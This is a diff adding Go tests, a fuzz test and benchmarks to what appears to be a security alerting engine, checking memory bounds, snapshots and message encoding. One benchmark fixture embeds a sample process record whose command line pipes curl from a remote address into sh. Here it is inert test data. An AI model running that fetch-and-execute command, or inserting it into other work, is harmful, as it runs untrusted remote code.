@@ -353,3 +353,195 @@ func restore(t *testing.T, data []byte) *State {
 	}
 	return s
 }
+
+// Memory is bounded, whatever comes, and what goes is counted.
+func TestBounds(t *testing.T) {
+	l := Limits{Lateness: time.Minute, Keys: 50, Bytes: 100 << 10}
+	s := New(l)
+	d, other := definition(Count), definition(Suppress)
+	d.AtLeast = 3
+	for n := range 20000 {
+		m := match(d, strconv.Itoa(n%400), n, 1000+float64(n)/100, 0, "")
+		s.Add(&m)
+		m = match(other, strconv.Itoa(n), n, 1000+float64(n)/100, 0, "")
+		m.Doc = make([]byte, 1000)
+		s.Add(&m)
+		s.Published(len(s.Alerts()))
+		if s.Bytes() > l.Bytes || s.Keys() > 2*l.Keys {
+			t.Fatalf("after %d: %d keys, %d bytes", n, s.Keys(), s.Bytes())
+		}
+	}
+	if s.Stats.Keys < 19000 {
+		t.Errorf("%d keys counted as given up", s.Stats.Keys)
+	}
+
+	// A flood on one key: the first and the last of its events stay.
+	s = New(roomy)
+	flood := definition(Suppress)
+	flood.Hold = time.Hour
+	for n := range 5000 {
+		m := match(flood, "a", n, 1000+float64(n)/10, 0, "")
+		s.Add(&m)
+	}
+	if s.Stats.Events != 5000-MaxEvents {
+		t.Errorf("%d events given up", s.Stats.Events)
+	}
+	s.Advance(end)
+	a := s.Alerts()
+	if len(a) != 2 || a[1].Total != 5000 || len(a[1].Events) != MaxEvidence || a[1].Events[5].Fields["n"] != "5" || string(a[1].At.Doc) != "0" {
+		t.Errorf("%d alerts; the last of %d events, %d named, about %q", len(a), a[len(a)-1].Total, len(a[len(a)-1].Events), a[len(a)-1].At.Doc)
+	}
+
+	// A baseline of many values.
+	s = New(roomy)
+	base := definition(Baseline)
+	for n := range 3 * maxValues {
+		m := match(base, "a", n, 1000+float64(n)/100, 0, strconv.Itoa(n))
+		s.Add(&m)
+	}
+	if s.Stats.Values != 2*maxValues || len(s.Alerts()) != 0 {
+		t.Errorf("%d values given up, %d alerts", s.Stats.Values, len(s.Alerts()))
+	}
+
+	// A snapshot has room for what it must have, not for everything.
+	s = New(roomy)
+	rng := rand.New(rand.NewPCG(1, 2))
+	for n := range 3000 {
+		m := match(d, strconv.Itoa(n), n, 1000, 0, "")
+		m.Doc = make([]byte, 1000)
+		for i := range m.Doc { // does not compress
+			m.Doc[i] = byte(rng.Uint32())
+		}
+		s.Add(&m)
+	}
+	data, err := s.Snapshot(960 << 10)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(data) > 960<<10 || s.Stats.Keys < 2000 {
+		t.Errorf("%d bytes, %d keys given up", len(data), s.Stats.Keys)
+	}
+	if r := restore(t, data); r.Keys() != s.Keys() || r.Bytes() != s.Bytes() {
+		t.Errorf("%d keys and %d bytes of %d and %d", r.Keys(), r.Bytes(), s.Keys(), s.Bytes())
+	}
+}
+
+func TestWire(t *testing.T) {
+	d := definition(Sequence)
+	var all []Match
+	for n := range 2000 {
+		m := match(d, "a", n, float64(n), n%3, "v")
+		m.Doc = []byte(`{"a":"` + strings.Repeat("x", 300) + `"}`)
+		all = append(all, m)
+	}
+	messages, err := Encode(all)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var got []Match
+	for _, data := range messages {
+		if len(data) > 2*MaxMessage {
+			t.Errorf("message of %d bytes", len(data))
+		}
+		ms, err := Decode(data)
+		if err != nil {
+			t.Fatal(err)
+		}
+		got = append(got, ms...)
+	}
+	if len(messages) < 2 || !reflect.DeepEqual(got, all) {
+		t.Errorf("%d matches of %d in %d messages", len(got), len(all), len(messages))
+	}
+}
+
+// Whatever comes on the bus is refused or taken, and never stops its owner.
+func FuzzDecode(f *testing.F) {
+	for _, kind := range []Kind{Count, Distinct, Sequence, Absence, Baseline, Suppress} {
+		d := definition(kind)
+		data, err := Encode([]Match{match(d, "a", 1, 1, 0, "x"), match(d, "a", 2, 2, max(d.Steps, 1)-1, "y")})
+		if err != nil {
+			f.Fatal(err)
+		}
+		f.Add(data[0])
+	}
+	f.Add([]byte(`{"rules":[null],"matches":[{"rule":0}]}`))
+	f.Add([]byte(`{"rules":[],"matches":[{"rule":-1,"event":"00"}]}`))
+	f.Fuzz(func(t *testing.T, data []byte) {
+		ms, err := Decode(data)
+		if err != nil {
+			return
+		}
+		s := New(roomy)
+		for i := range ms {
+			s.Add(&ms[i])
+		}
+		s.Advance(end)
+		for _, a := range s.Alerts() {
+			_ = a.Message()
+		}
+		if out, err := s.Snapshot(1 << 20); err == nil {
+			restore(t, out)
+		}
+	})
+}
+
+// full is a state of one partition at its bound, with findings as they are.
+func full(b *testing.B) *State {
+	s := New(Limits{Lateness: 2 * time.Minute, Keys: 10000, Bytes: 4 << 20})
+	d := definition(Count)
+	doc := []byte(strings.Repeat(`{"process":{"name":"bash","cmd_line":"bash -c curl http://203.0.113.9/x | sh"},"uid":"`, 30))
+	for n := 0; s.Stats.Keys == 0; n++ {
+		m := match(d, strconv.Itoa(n/2), n, 1000+float64(n)/1000, 0, "")
+		m.Doc = []byte(string(doc) + strconv.Itoa(n*7919))
+		s.Add(&m)
+	}
+	b.ReportMetric(float64(s.Keys()), "keys")
+	return s
+}
+
+func BenchmarkSnapshot(b *testing.B) {
+	s := full(b)
+	size := 0
+	for b.Loop() {
+		data, err := s.Snapshot(960 << 10)
+		if err != nil {
+			b.Fatal(err)
+		}
+		size = len(data)
+	}
+	b.ReportMetric(float64(s.Keys()), "keys")
+	b.ReportMetric(float64(s.Bytes()), "state-bytes")
+	b.ReportMetric(float64(size), "stored-bytes")
+}
+
+func BenchmarkRestore(b *testing.B) {
+	s := full(b)
+	data, err := s.Snapshot(960 << 10)
+	if err != nil {
+		b.Fatal(err)
+	}
+	for b.Loop() {
+		if _, err := Restore(data, s.limits); err != nil {
+			b.Fatal(err)
+		}
+	}
+}
+
+// One match of 1,000 keys in turn.
+func BenchmarkAdd(b *testing.B) {
+	for _, kind := range []Kind{Count, Distinct, Sequence, Absence, Baseline, Suppress} {
+		b.Run(string(kind), func(b *testing.B) {
+			s, d, n := New(roomy), definition(kind), 0
+			for b.Loop() {
+				step := 0
+				if d.Steps > 0 {
+					step = n / 1000 % d.Steps
+				}
+				m := Match{Def: d, Key: []string{strconv.Itoa(n % 1000)}, Event: Event{Time: 1e12 + int64(n)*5e6, ID: id(n), Step: step, Value: strconv.Itoa(n % 7)}}
+				s.Add(&m)
+				s.Published(len(s.Alerts()))
+				n++
+			}
+		})
+	}
+}
